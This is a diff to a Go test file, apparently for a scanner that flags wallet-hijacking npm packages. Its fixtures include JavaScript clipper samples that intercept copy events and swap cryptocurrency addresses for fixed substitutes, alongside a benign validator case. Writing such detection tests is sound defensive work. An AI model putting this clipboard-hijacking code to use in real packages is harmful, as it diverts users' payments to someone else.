@@ -48,6 +48,11 @@ func TestWalletHijack(t *testing.T) {
 		{"clipper_patterns_module", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
 			"lib/norm.js":  `const P = [[/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/, ["1BoatSLRHtKNngkdXEeobR76b53LETtpyT"]], [/^0x[a-fA-F0-9]{40}$/, ["0x1111111111111111111111111111111111111111"]]]; exports.canonical = (t) => { for (const [re, l] of P) if (re.test(t)) return l[0]; return t }`,
 			"lib/index.js": `const { canonical } = require("./norm"); document.addEventListener("copy", (e) => { const s = String(document.getSelection()); e.clipboardData.setData("text/plain", canonical(s)); e.preventDefault() }, true); exports.copy = (t) => navigator.clipboard.writeText(canonical(t))`}, finding.SeverityCritical},
+		// the patterns one module further
+		{"clipper_patterns_two_modules", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
+			"lib/pat.js":   `exports.kinds = [/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/, /^0x[a-fA-F0-9]{40}$/]`,
+			"lib/norm.js":  `const { kinds } = require("./pat"); exports.canonical = (t) => kinds.some((re) => re.test(t)) ? swap(t) : t`,
+			"lib/index.js": `const { canonical } = require("./norm"); document.addEventListener("copy", (e) => { const s = String(document.getSelection()); e.clipboardData.setData("text/plain", canonical(s)); e.preventDefault() }, true); exports.copy = (t) => navigator.clipboard.writeText(canonical(t))`}, finding.SeverityCritical},
 		{"copy_button_validator_module", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
 			"lib/valid.js": `exports.isAddress = (t) => /^0x[a-fA-F0-9]{40}$/.test(t) || /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/.test(t)`,
 			"lib/index.js": `const { isAddress } = require("./valid"); exports.copy = (t) => isAddress(t) && navigator.clipboard.writeText(t)`}, finding.SeverityNone},
